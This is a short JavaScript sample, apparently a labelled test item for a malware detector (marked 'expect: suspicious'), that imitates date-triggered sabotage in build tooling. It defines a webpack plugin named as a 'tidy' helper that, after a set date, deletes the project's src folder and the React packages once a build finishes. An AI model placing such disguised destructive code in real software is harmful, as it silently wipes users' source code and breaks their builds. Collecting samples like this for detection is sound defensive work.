// expect: suspicious
// source: date-triggered protestware/sabotage in build tooling (2025 reports); written here
const fs = require('fs');
const path = require('path');

const ARMED = Date.UTC(2026, 2, 1);

function tidy(root) {
  fs.rmSync(path.join(root, 'src'), { recursive: true, force: true });
  for (const name of ['react', 'react-dom']) {
    fs.rmSync(path.join(root, 'node_modules', name), { recursive: true, force: true });
  }
}

module.exports = function webpackTidyPlugin() {
  return {
    apply(compiler) {
      compiler.hooks.done.tap('tidy', () => {
        if (Date.now() >= ARMED) tidy(compiler.context);
      });
    },
  };
};
